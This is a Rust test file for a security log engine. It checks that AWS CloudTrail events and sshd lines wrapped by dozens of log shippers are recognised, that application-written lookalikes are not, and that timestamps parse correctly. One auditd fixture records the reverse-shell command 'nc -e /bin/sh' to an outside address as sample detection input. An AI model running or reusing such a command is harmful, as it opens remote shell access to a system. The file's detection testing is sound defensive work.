//! What shippers put around an event, by their documentation: the event within is read. What an application writes in their manner is the application's.

use auditward_core::policy::Policy;
use auditward_core::write::Output;
use auditward_core::{Engine, Raw, Secret};

const EVENT: &str = r#"{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"ann","accountId":"111122223333"},"eventTime":"2026-01-15T11:30:00Z","eventSource":"iam.amazonaws.com","eventName":"DeleteUser","awsRegion":"eu-central-1","sourceIPAddress":"198.51.100.7","eventID":"e-1","eventType":"AwsApiCall","recipientAccountId":"111122223333"}"#;
const LINE: &str = "Failed password for root from 198.51.100.7 port 22 ssh2";

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

fn base64(text: &str) -> String {
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let encode = |chunk: &[u8]| -> String {
        let bits = (0..3).fold(0u32, |bits, at| {
            bits << 8 | u32::from(chunk.get(at).copied().unwrap_or_default())
        });
        (0..4)
            .map(|at| match at <= chunk.len() {
                true => digits[(bits >> (18 - 6 * at) & 63) as usize] as char,
                false => '=',
            })
            .collect()
    };
    text.as_bytes().chunks(3).map(encode).collect()
}

fn answer(record: &str) -> String {
    let mut engine = Engine::new(Policy::parse("").unwrap(), Secret::default());
    let mut out = Output::default();
    engine.process(Raw { bytes: record.as_bytes(), ..Raw::default() }, &mut out);
    String::from_utf8_lossy(out.bytes()).into_owned()
}

/// A record in the manner of a shipper: `EVENT` stands for an object, `TEXT` for the event as text, `BASE64` for it in base64, `LINE` for a line of sshd.
fn filled(form: &str) -> String {
    form.replace("EVENT", EVENT)
        .replace("TEXT", &quoted(EVENT))
        .replace("BASE64", &quoted(&base64(EVENT)))
        .replace("LINE", &quoted(LINE))
}

#[test]
fn the_event_within_is_read() {
    for form in [
        // Filebeat, Elastic Agent, Logstash.
        r#"{"@timestamp":"2026-01-15T11:31:00Z","log":{"offset":3,"file":{"path":"/x"}},"message":TEXT}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","agent":{"type":"filebeat"},"ecs":{"version":"8.0.0"},"cloud":{"provider":"aws"},"awscloudwatch":{"log_group":"g"},"log":{"file":{"path":"/x"}},"input":{"type":"aws-cloudwatch"},"message":TEXT}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","agent":{"type":"filebeat"},"azure":{"eventhub":"h"},"message":TEXT}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","log":{"offset":3,"file":{"path":"/x"}},"json":EVENT,"input":{"type":"log"},"agent":{"type":"filebeat"},"ecs":{"version":"8.0.0"},"host":{"name":"h"}}"#,
        // Okta's event hooks.
        r#"{"eventType":"com.okta.event_hook","eventTypeVersion":"1.0","cloudEventsVersion":"0.1","source":"https://x.okta.com/api/v1/eventHooks/1","eventId":"e","data":{"events":[EVENT]},"eventTime":"2026-01-15T11:31:00Z","contentType":"application/json"}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","@version":"1","type":"syslog","host":"h","message":TEXT}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","@version":"1","host":{"name":"h"},"event":{"original":TEXT},"log":{"file":{"path":"/x"}},"message":TEXT}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","agent":{"type":"filebeat"},"ecs":{"version":"8.0.0"},"input":{"type":"aws-s3"},"log":{"file":{"path":"/x"}},"event":{"original":TEXT}}"#,
        // Vector.
        r#"{"source_type":"kafka","topic":"t","partition":0,"offset":1,"headers":{},"message_key":"k","message":TEXT,"timestamp":"2026-01-15T11:31:00Z"}"#,
        r#"{"source_type":"docker_logs","container_created_at":"2026-01-15T00:00:00Z","container_id":"c","container_name":"trail","image":"i","label":{},"host":"h","stream":"stdout","message":TEXT,"timestamp":"2026-01-15T11:31:00Z"}"#,
        r#"{"source_type":"aws_s3","bucket":"b","object":"o","region":"r","message":TEXT,"timestamp":"2026-01-15T11:31:00Z"}"#,
        r#"{"source_type":"gcp_pubsub","message_id":"1","attributes":{},"message":TEXT,"timestamp":"2026-01-15T11:31:00Z"}"#,
        r#"{"source_type":"aws_kinesis_firehose","request_id":"1","source_arn":"a","message":TEXT,"timestamp":"2026-01-15T11:31:00Z"}"#,
        r#"{"source_type":"socket","host":"h","port":5,"message":TEXT,"timestamp":"2026-01-15T11:31:00Z"}"#,
        // CloudWatch Logs, SQS, SNS, EventBridge.
        r#"{"id":"37192840192837465019283746501928374650192837465019283746","timestamp":1768476660000,"message":TEXT}"#,
        r#"{"logStreamName":"s","timestamp":1768476660000,"message":TEXT,"ingestionTime":1768476660000,"eventId":"37"}"#,
        r#"{"messageType":"DATA_MESSAGE","owner":"1","logGroup":"g","logStream":"s","subscriptionFilters":["f"],"logEvents":[{"id":"37192840192837465019283746501928374650192837465019283746","timestamp":1768476660000,"message":TEXT}]}"#,
        r#"{"messageId":"m","receiptHandle":"r","body":TEXT,"attributes":{},"messageAttributes":{},"md5OfBody":"x","eventSource":"aws:sqs","eventSourceARN":"a","awsRegion":"r"}"#,
        r#"{"Type":"Notification","MessageId":"m","TopicArn":"arn:aws:sns:r:1:t","Message":TEXT,"Timestamp":"2026-01-15T11:31:00Z"}"#,
        r#"{"version":"0","id":"x","detail-type":"AWS API Call via CloudTrail","source":"aws.iam","time":"2026-01-15T11:31:00Z","detail":EVENT}"#,
        r#"{"messageId":"m","receiptHandle":"r","body":"{\"version\":\"0\",\"id\":\"x\",\"detail-type\":\"t\",\"source\":\"aws.iam\",\"account\":\"1\",\"time\":\"2026-01-15T11:31:00Z\",\"region\":\"r\",\"resources\":[],\"detail\":EVENT_ESCAPED}"}"#,
        // Pub/Sub, Cloud Logging, Event Hub, Kafka, OTLP, Splunk, New Relic, Graylog.
        r#"{"message":{"data":BASE64,"messageId":"1","publishTime":"2026-01-15T11:31:00Z","attributes":{}},"subscription":"projects/p/subscriptions/s"}"#,
        r#"{"ackId":"a","message":{"data":BASE64,"messageId":"1","publishTime":"2026-01-15T11:31:00Z"}}"#,
        r#"{"insertId":"a","jsonPayload":EVENT,"resource":{"type":"k8s_container"},"timestamp":"2026-01-15T11:31:00Z","logName":"projects/p/logs/stdout"}"#,
        r#"{"records":[{"time":"2026-01-15T11:31:00Z","resourceId":"/x","properties":EVENT}]}"#,
        r#"{"topic":"t","partition":0,"offset":1,"key":null,"value":TEXT}"#,
        r#"{"body":{"stringValue":TEXT},"timeUnixNano":"1768476660000000000","severityText":"INFO"}"#,
        r#"{"time":1768476660.0,"host":"h","source":"s","sourcetype":"aws:cloudtrail","index":"main","event":TEXT}"#,
        r#"{"logtype":"cloudtrail","message":TEXT,"timestamp":1768476660000}"#,
        r#"{"tag":"trail.x","time":1768476660,"record":EVENT}"#,
        r#"{"version":"1.1","host":"h","short_message":"A user was deleted","full_message":TEXT,"timestamp":1768476660.1}"#,
        // Docker's files with labels, its driver for Graylog, Fluent Bit's filters.
        r#"{"log":TEXT,"stream":"stdout","attrs":{"tag":"trail","env":"prod"},"time":"2026-01-15T11:31:00Z"}"#,
        r#"{"log":TEXT,"log_processed":EVENT,"stream":"stdout","time":"2026-01-15T11:31:00Z"}"#,
        r#"{"log_processed":EVENT,"stream":"stdout","kubernetes":{"container_name":"cloudtrail"}}"#,
        r#"{"log":TEXT,"az":"eu-central-1a","ec2_instance_id":"i-1","ec2_instance_type":"t3.small","vpc_id":"v"}"#,
        r#"{"message":TEXT,"image_name":"trail","image_id":"sha256:0","command":"run","created":"2026-01-15T00:00:00Z","container_name":"trail","version":"1.1","short_message":"x"}"#,
        r#"{"message":TEXT,"source_address":"192.0.2.4","source_host":"h"}"#,
        // Vector's syslog with structured data, its OpenTelemetry source.
        r#"{"source_type":"syslog","appname":"cloudtrail","facility":"user","severity":"info","hostname":"h","host":"h","procid":3,"msgid":"m","version":1,"source_ip":"192.0.2.4","timestamp":"2026-01-15T11:31:00Z","timeQuality":{"tzKnown":"1"},"trail@32473":{"iut":"3"},"message":TEXT}"#,
        r#"{"source_type":"opentelemetry","attributes":{},"resources":{"host.name":"x"},"scope":{"name":"x"},"dropped_attributes_count":0,"observed_timestamp":"2026-01-15T11:31:00Z","timestamp":"2026-01-15T11:31:00Z","severity_text":"INFO","message":TEXT}"#,
        // rsyslog's %jsonmesg%.
        r#"{"msg":TEXT,"rawmsg":"<14>x","timereported":"2026-01-15T11:31:00Z","hostname":"h","syslogtag":"cloudtrail:","inputname":"imtcp","fromhost":"h","fromhost-ip":"192.0.2.4","pri":"14","syslogfacility":"1","syslogseverity":"6","timegenerated":"2026-01-15T11:31:00Z","programname":"cloudtrail","protocol-version":"0","structured-data":"-","app-name":"cloudtrail","procid":"-","msgid":"-","uuid":"u","$!":{"x":1}}"#,
        // GELF with further fields, CloudWatch's filters, Datadog, OpenTelemetry, NXLog, Splunk.
        r#"{"version":"1.1","host":"h","short_message":TEXT,"timestamp":1768476660.1,"level":6,"_facility":"x","_env":"prod","_container_name":"trail"}"#,
        r#"{"id":"37192840192837465019283746501928374650192837465019283746","timestamp":1768476660000,"message":TEXT,"extractedFields":{"a":"b"}}"#,
        r#"{"message":TEXT,"ddsource":"cloudtrail","ddtags":"env:prod","service":"trail","status":"info","hostname":"h","timestamp":1768476660000}"#,
        r#"{"body":TEXT,"attributes":{"log.file.name":"x"},"resource":{"host.name":"h"}}"#,
        r#"{"Timestamp":"1768476660000000000","ObservedTimestamp":"1768476660000000000","SeverityText":"INFO","SeverityNumber":9,"Body":TEXT,"Attributes":{},"Resource":{}}"#,
        r#"{"EventReceivedTime":"2026-01-15T11:31:00Z","SourceModuleName":"in","SourceModuleType":"im_file","Hostname":"h","Message":TEXT}"#,
        r#"{"_raw":TEXT,"_time":1768476660,"host":"h","source":"s","index":"main"}"#,
        r#"{"preview":false,"offset":0,"result":{"_raw":TEXT,"_time":"2026-01-15T11:31:00Z","sourcetype":"x","host":"h"}}"#,
        // Elasticsearch, CloudWatch Logs Insights, LogScale, Azure Monitor's tables.
        r#"{"_index":"trail-2026.01","_id":"a","_score":null,"_source":EVENT,"sort":[1]}"#,
        r#"{"_index":"filebeat-8","_id":"a","_source":{"@timestamp":"2026-01-15T11:31:00Z","agent":{"type":"filebeat"},"message":TEXT}}"#,
        r#"{"@timestamp":"2026-01-15 11:31:00.000","@message":TEXT}"#,
        r#"{"@timestamp":"2026-01-15 11:31:00.000","@message":TEXT,"@logStream":"s","@log":"1:g","@ptr":"p"}"#,
        r##"{"@rawstring":TEXT,"@timestamp":1768476660000,"@id":"i","@timezone":"Z","#repo":"trail","#type":"json"}"##,
        r#"{"TimeGenerated":"2026-01-15T11:31:00Z","RawData":TEXT,"Computer":"h","FilePath":"/x","TenantId":"t","Type":"Trail_CL"}"#,
        // CloudEvents, Event Grid, Firehose, Sumo Logic, Mezmo, Axiom, Loki, Kafka Connect.
        r#"{"specversion":"1.0","type":"x","source":"s","id":"1","time":"2026-01-15T11:31:00Z","datacontenttype":"application/json","data":EVENT}"#,
        r#"{"id":"1","topic":"/x","subject":"s","eventType":"x","eventTime":"2026-01-15T11:31:00Z","dataVersion":"1","metadataVersion":"1","data":EVENT}"#,
        r#"{"recordId":"1","approximateArrivalTimestamp":1768476660000,"data":BASE64}"#,
        r#"{"_raw":TEXT,"_messagetime":1768476660000,"_sourcehost":"h","_sourcecategory":"trail","_collector":"c"}"#,
        r#"{"_line":TEXT,"_ts":1768476660000,"_host":"h","_app":"trail","_tag":["x"]}"#,
        r#"{"_time":"2026-01-15T11:31:00Z","_sysTime":"2026-01-15T11:31:00Z","_rowId":"r","data":EVENT}"#,
        r#"{"labels":{"job":"trail"},"line":TEXT,"timestamp":"2026-01-15T11:31:00Z"}"#,
        r#"{"schema":{"type":"string","optional":false},"payload":TEXT}"#,
        // Lists, plain and as text.
        r#"{"Records":[EVENT]}"#,
        r#"{"log":"{\"Records\":[EVENT_ESCAPED]}"}"#,
    ] {
        let escaped = quoted(EVENT);
        let record = filled(&form.replace("EVENT_ESCAPED", &escaped[1..escaped.len() - 1]));
        let answer = answer(&record);
        assert!(answer.contains(r#""source":"aws.cloudtrail""#), "{record}\n{answer}");
        assert!(
            answer.contains(r#""actor":{"id""#) || answer.contains(r#""name":"ann""#),
            "{answer}"
        );
    }
}

#[test]
fn the_line_within_is_read() {
    for form in [
        r#"{"pri":"38","time":"2026-01-15T11:31:00Z","host":"web1","ident":"sshd","pid":"8","msgid":"-","extradata":"-","message":LINE}"#,
        r#"{"PROGRAM":"sshd","PRIORITY":"info","PID":"8","MSGID":"-","MESSAGE":LINE,"HOST_FROM":"web1","HOST":"web1","FACILITY":"auth","SOURCE":"s_net","TRANSPORT":"rfc5424","DATE":"Jan 15 11:31:00"}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","@version":"1","type":"syslog","program":"sshd","logsource":"web1","facility_label":"auth","severity_label":"info","message":LINE}"#,
        r#"{"@timestamp":"2026-01-15T11:31:00Z","agent":{"type":"filebeat"},"log":{"offset":1},"process":{"program":"sshd"},"host":{"name":"web1"},"message":LINE}"#,
        r#"{"version":"1.1","host":"web1","short_message":LINE,"timestamp":1768476660.1,"level":6,"_application_name":"sshd","_process_id":8}"#,
        r#"{"timestamp":"2026-01-15T11:31:00Z","host":"web1","type":"syslog","severity":"info","facility":"auth","syslogtag":"sshd[8]:","message":LINE}"#,
        r#"{"source_type":"syslog","appname":"sshd","facility":"auth","severity":"info","hostname":"web1","host":"web1","procid":8,"msgid":"-","version":1,"timestamp":"2026-01-15T11:31:00Z","origin":{"ip":"192.0.2.4"},"x@1":{"iut":"3"},"message":LINE}"#,
        r#"{"msg":LINE,"rawmsg":"<38>x","timereported":"2026-01-15T11:31:00Z","hostname":"web1","syslogtag":"sshd[8]:","fromhost-ip":"192.0.2.4","pri":"38","programname":"sshd","protocol-version":"0","structured-data":"-","app-name":"sshd","procid":"8","msgid":"-","uuid":null,"$!":null}"#,
        r#"{"EventReceivedTime":"2026-01-15T11:31:00Z","SourceModuleName":"in","SourceModuleType":"im_udp","SyslogFacilityValue":4,"SyslogFacility":"AUTH","SyslogSeverityValue":6,"SyslogSeverity":"INFO","SeverityValue":2,"Severity":"INFO","Hostname":"web1","EventTime":"2026-01-15T11:31:00Z","SourceName":"sshd","ProcessID":"8","Message":LINE,"MessageSourceAddress":"192.0.2.4"}"#,
        r#"{"version":"1.1","host":"web1","short_message":LINE,"timestamp":1768476660.1,"level":6,"_application_name":"sshd","_process_id":8,"_facility":"auth"}"#,
        r#"{"log":LINE,"az":"a","ec2_instance_id":"i-1","ec2_instance_type":"t3.small"}"#,
        r#"{"message":LINE,"ident":"sshd","source_address":"192.0.2.4","host":"web1"}"#,
        r#"{"TimeGenerated":"2026-01-15T11:31:00Z","TenantId":"t","SourceSystem":"Linux","Computer":"web1","EventTime":"2026-01-15T11:31:00Z","Facility":"auth","HostName":"web1","SeverityLevel":"info","SyslogMessage":LINE,"ProcessID":8,"HostIP":"10.0.0.4","ProcessName":"sshd","Type":"Syslog"}"#,
        r#"{"_index":"logs","_id":"a","_source":{"message":LINE,"ident":"sshd","host":"web1"}}"#,
        r#"{"_line":LINE,"_ts":1768476660000,"_host":"web1","_app":"sshd"}"#,
    ] {
        let record = filled(form);
        let answer = answer(&record);
        assert!(answer.contains(r#""source":"system.auth""#), "{record}\n{answer}");
        assert!(answer.contains(r#""ip":"198.51.100.7""#), "{answer}");
    }
}

/// Lines of one event as a list, as shippers join them.
#[test]
fn a_list_of_lines_is_one_event() {
    let lines = [
        "type=SYSCALL msg=audit(1768476600.123:77): arch=c000003e syscall=59 success=yes exit=0 pid=9 auid=1000 uid=0 comm=\\\"nc\\\" exe=\\\"/usr/bin/nc\\\" key=\\\"x\\\"",
        "type=EXECVE msg=audit(1768476600.123:77): argc=4 a0=\\\"nc\\\" a1=\\\"-e\\\" a2=\\\"/bin/sh\\\" a3=\\\"198.51.100.7\\\"",
    ];
    let [one, two] = lines;
    let joined = answer(&format!(r#"{{"message":"{one}\n{two}"}}"#));
    assert!(joined.contains(r#""source":"linux.auditd""#), "{joined}");
    for record in [
        format!(r#"{{"message":["{one}","{two}"]}}"#),
        format!(r#"{{"message": [ "{one}" , "{two}" ]}}"#),
        format!(r#"{{"log":["{one}","{two}"]}}"#),
        format!(
            r#"{{"@timestamp":"2026-01-15T11:31:00Z","log":{{"offset":3,"file":{{"path":"/var/log/audit/audit.log"}}}},"message":["{one}","{two}"]}}"#
        ),
    ] {
        let answer = answer(&record);
        assert!(answer.contains(r#""source":"linux.auditd""#), "{record}\n{answer}");
        assert!(answer.contains("nc -e /bin/sh 198.51.100.7"), "{record}\n{answer}");
    }
    for record in [
        r#"{"message":[]}"#,
        r#"{"message":[1,"x"]}"#,
        r#"{"message":["x",{}]}"#,
        r#"{"message":["Failed password for root from 198.51.100.7 port 22 ssh2"]}"#,
        r#"{"log":["\ud800","x"]}"#,
    ] {
        assert!(!answer(record).contains(r#""source""#), "{record}");
    }
}

/// Marks of encodings, ends of messages and colours are no part of an object.
#[test]
fn what_stands_around_an_object_is_none_of_it() {
    for (before, behind) in [
        ("\u{feff}", ""),
        ("", "\0"),
        ("\0\u{feff}", "\0\0"),
        ("\x1b[32m", "\x1b[0m"),
        ("\x1b[01;31m\x1b[K", "\x1b[m\x1b[K\n"),
        ("", "\x1b[0m\r\n"),
    ] {
        let answer = answer(&format!("{before}{EVENT}{behind}"));
        assert!(answer.contains(r#""source":"aws.cloudtrail""#), "{before:?} {behind:?} {answer}");
        assert!(!answer.contains("not-json"), "{answer}");
    }
    for record in ["\x1b[32m{", "{}m", "{\"a\":1}K", "{\"a\":1}\x1b[0", "\x1b[32m\x1b[0m", "{\0"] {
        assert!(answer(record).contains("\"raw\":\""), "{record:?}");
    }
}

#[test]
fn what_an_application_writes_is_its_own() {
    for form in [
        r#"{"type":"guestbook","message":TEXT}"#,
        r#"{"id":"1","timestamp":1768476660000,"message":TEXT}"#,
        r#"{"service":{"name":"guestbook"},"message":TEXT}"#,
        r#"{"owner":"ann","value":TEXT}"#,
        r#"{"value":TEXT}"#,
        r#"{"app":"guestbook","log":{"level":"info"},"message":TEXT}"#,
        r#"{"Message":TEXT,"Subject":"x"}"#,
        r#"{"version":"1.1","level":6,"short_text":"x","message":LINE,"app":"guestbook"}"#,
        r#"{"type":"x","port":5,"message":LINE}"#,
        r#"{"app":"guestbook","body":EVENT}"#,
        r#"{"message":TEXT,"attrs":{"user":"x"}}"#,
        r#"{"message":LINE,"attrs":{"user":"x"},"stream":"stdout"}"#,
        r#"{"app":"guestbook","log_processed":EVENT}"#,
        r#"{"service":"guestbook","status":"ok","message":TEXT}"#,
        r#"{"app":"guestbook","ddtags":"env:prod","message":TEXT}"#,
        r#"{"_user":"x","_path":"/","message":TEXT}"#,
        r#"{"body":TEXT,"attributes":{"x":1}}"#,
        r#"{"message":TEXT,"resource":"comment"}"#,
        r#"{"result":EVENT}"#,
        r#"{"result":{"_raw":TEXT}}"#,
        r#"{"Severity":"INFO","Message":TEXT}"#,
        r#"{"source_type":"syslog","appname":"cloudtrail","user":{"name":"x"},"message":TEXT}"#,
        r#"{"source_type":"syslog","appname":"cloudtrail","x@1":"text","message":TEXT}"#,
        r#"{"extractedFields":{},"comment":"x","message":TEXT}"#,
        r#"{"private_ip":"10.0.0.1","account_id":"1","message":TEXT}"#,
        r#"{"command":"run","message":TEXT}"#,
        r#"{"level":"info","request":"POST /","event":EVENT}"#,
        r#"{"@level":"info","@module":"guestbook","@timestamp":"2026-01-15T11:31:00Z","@message":TEXT}"#,
        r#"{"payload":TEXT}"#,
        r#"{"line":TEXT}"#,
        r#"{"attributes":EVENT}"#,
        r#"{"user":"x","payload":EVENT,"schema":"comment"}"#,
        r#"{"app":"guestbook","_source":EVENT}"#,
        r#"{"type":"comment","data":EVENT}"#,
    ] {
        let record = filled(form);
        let answer = answer(&record);
        assert!(!answer.contains(r#""source":"aws.cloudtrail""#), "{record}\n{answer}");
        assert!(!answer.contains(r#""source":"system.auth""#), "{record}\n{answer}");
    }
}

#[test]
fn several_events_in_one_record_are_flagged() {
    let flag = r#""several-events""#;
    for (form, is_flagged) in [
        (r#"{"Records":[EVENT]}"#, false),
        (r#"{"Records":[EVENT,EVENT]}"#, true),
        (r#"{"log":"{\"unknown\":1}","Records":[EVENT,EVENT]}"#, false),
        (r#"{"items":[{"unknown":1},{"unknown":2}]}"#, false),
        // Of a list, a line whose object no source knows.
        (
            r#"{"logGroup":"g","logEvents":[{"message":"Jan 15 11:30:00 web1 app[7]: {\"a\":1}"},{"message":"x"}]}"#,
            true,
        ),
        (
            r#"{"logGroup":"g","logEvents":[{"message":"Jan 15 11:30:00 web1 app[7]: {\"Records\":[{\"a\":1},{\"a\":2}]}"}]}"#,
            false,
        ),
    ] {
        let answer = answer(&filled(form));
        assert_eq!(answer.contains(flag), is_flagged, "{form}\n{answer}");
    }
}

/// The time that a record says, as it is written.
#[test]
fn times_keep_what_they_state() {
    let mut engine = Engine::new(Policy::parse("").unwrap(), Secret::default());
    let mut out = Output::default();
    let k8s = |stamp: &str| {
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a","verb":"get","requestURI":"/x","stageTimestamp":"{stamp}"}}"#
        )
    };
    for (record, time) in [
        (k8s("2026-01-10T10:00:00.1234567+02:00"), "2026-01-10T08:00:00.1234567Z"),
        (k8s("2026-01-10T10:00:00.123456789-01:00"), "2026-01-10T11:00:00.123456789Z"),
        (k8s("2026-01-10T10:00:00.120000+00:00"), "2026-01-10T10:00:00.120000Z"),
        (k8s("2026-01-10T10:00:00.1200000+00:00"), "2026-01-10T10:00:00.120Z"),
        (k8s("2026-01-10 10:00:01.000000000"), "2026-01-10T10:00:01.000Z"),
        (k8s("2026-01-10T10:00:00.12+00:00"), "2026-01-10T10:00:00.120Z"),
        (
            r#"[Jan  4 10:00:06] NOTICE[812]: chan_sip.c:28523 handle_request_register: Registration from '"100" <sip:100@203.0.113.1>' failed for '198.51.100.7:5071' - Wrong password"#.to_owned(),
            "2026-01-04T10:00:06.000Z",
        ),
        (
            "Jan  4 10:00:06 11[IKE] <rw|3> deleting IKE_SA rw[3] between 203.0.113.1[vpn.example.com]...192.0.2.10[ann]".to_owned(),
            "2026-01-04T10:00:06.000Z",
        ),
        (
            "Jan  4 10:00:06 kdc1 krb5kdc[812](info): AS_REQ (8 etypes {18}) 192.0.2.10: PREAUTH_FAILED: ann@EXAMPLE.COM for krbtgt/EXAMPLE.COM@EXAMPLE.COM, Preauthentication failed".to_owned(),
            "2026-01-04T10:00:06.000Z",
        ),
    ] {
        let bytes = record.as_bytes();
        let now = 1_768_478_400_000;
        engine.process(Raw { bytes, time: now, now, ..Raw::default() }, &mut out);
        let answer = String::from_utf8_lossy(out.bytes());
        assert!(answer.starts_with(&format!("{{\"time\":\"{time}\"")), "{record}\n{answer}");
    }
}
